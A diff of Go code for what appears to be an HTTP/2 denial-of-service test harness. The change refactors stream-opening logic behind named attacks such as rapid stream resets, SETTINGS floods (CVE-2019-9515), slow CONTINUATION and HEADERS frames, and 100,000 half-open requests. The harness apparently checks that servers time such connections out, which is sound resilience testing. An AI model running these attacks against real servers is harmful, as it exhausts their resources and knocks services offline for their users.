@@ -23,8 +23,12 @@ const (
 	post = "POST"
 )
 
-// many is how many streams an attack keeps open on a connection: no more than all servers allow.
-const many = 100
+const (
+	// many is how many streams an attack keeps open on a connection: no more than all servers allow.
+	many = 100
+	// unlimited lets an attack open streams without waiting for the end of others.
+	unlimited = 1 << 30
+)
 
 // head returns the field block of a request, without use of the server's table.
 func (c *conn) head(method, path string) []byte {
@@ -120,16 +124,7 @@ const emptyCookie = 0x80 | 32
 // running resets streams while their handlers run.
 func running(path string) func(*conn) {
 	return func(c *conn) {
-		block := c.head(get, path)
-		for {
-			for range many {
-				if _, ok := c.request(1<<30, block, true); !ok {
-					return
-				}
-			}
-			if !c.sleep(2 * time.Millisecond) {
-				return
-			}
+		for c.openMany(get, path, "", true) && c.sleep(2*time.Millisecond) {
 			var b []byte
 			for _, id := range c.open() {
 				b = http2.AppendReset(b, id, http2.Cancel)
@@ -142,16 +137,23 @@ func running(path string) func(*conn) {
 	}
 }
 
+// openMany opens many streams, and reports false if nothing can be sent any more.
+func (c *conn) openMany(method, path, more string, endStream bool) bool {
+	block := append(c.head(method, path), more...)
+	for range many {
+		if _, ok := c.request(unlimited, block, endStream); !ok {
+			return false
+		}
+	}
+	return true
+}
+
 // takes opens many streams, and keeps them by what next appends for each of them every so often.
 func takes(method, path, more string, endStream bool, every time.Duration, next rounds) func(*conn) {
 	return func(c *conn) {
-		block := append(c.head(method, path), more...)
-		for range many {
-			if _, ok := c.request(1<<30, block, endStream); !ok {
-				return
-			}
+		if c.openMany(method, path, more, endStream) {
+			c.hold(every, next)
 		}
-		c.hold(every, next)
 	}
 }
 
@@ -207,13 +209,9 @@ func changing(requests bool, settings ...setting) func(*conn) {
 func unread(c *conn) {
 	shrinkReadBuffer(c.nc)
 	c.send(http2.AppendWindowUpdate(nil, 0, 1<<30))
-	block := c.head(get, pathLarge)
-	for range many {
-		if _, ok := c.request(1<<30, block, true); !ok {
-			return
-		}
-	}
-	for c.sleep(200*time.Millisecond) && c.send(http2.AppendPing(nil, 0, [8]byte{})) {
+	ok := c.openMany(get, pathLarge, "", true)
+	for ok {
+		ok = c.sleep(200*time.Millisecond) && c.send(http2.AppendPing(nil, 0, [8]byte{}))
 	}
 }
 
@@ -327,13 +325,9 @@ func Attacks() []*Attack {
 		{Name: "settings-unread", About: "SETTINGS whose answers are never read, CVE-2019-9515", Want: TimesOut, manner: manner{unread: true},
 			run: always(appendSettings(nil))},
 		{Name: "settings-window", About: "windows of 100 streams go up and down", manner: window0, run: func(c *conn) {
-			block := c.head(get, pathLarge)
-			for range many {
-				if _, ok := c.request(1<<30, block, true); !ok {
-					return
-				}
+			if c.openMany(get, pathLarge, "", true) {
+				changing(false, setting{initialWindowSize, 1}, setting{initialWindowSize, 0})(c)
 			}
-			changing(false, setting{initialWindowSize, 1}, setting{initialWindowSize, 0})(c)
 		}},
 		{Name: "settings-table", About: "HPACK's table goes up and down, with requests in between",
 			run: changing(true, setting{headerTableSize, 0}, setting{headerTableSize, http2.DefaultHeaderTableSize})},
@@ -382,6 +376,7 @@ func Attacks() []*Attack {
 			run: takes(post, pathBody, length("1000000"), false, time.Second, byteOfBody)},
 		{Name: "slow-block", About: "heads of a CONTINUATION of one byte each second", Want: TimesOut, Conns: many, run: slowBlock},
 		{Name: "slow-frame", About: "HEADERS of a byte each second", Want: TimesOut, Conns: many, run: slowFrame},
+		// 10 KB for each request
 		{Name: "half-open", About: "100,000 requests whose bodies never come", Want: TimesOut, Conns: 1000, Growth: 1024 * megabytes,
 			run: takes(post, pathBody, length("1000000"), false, time.Second, nothing)},
 		{Name: "unacked", About: "the server's SETTINGS are never acknowledged", Want: TimesOut, manner: manner{unacked: true},
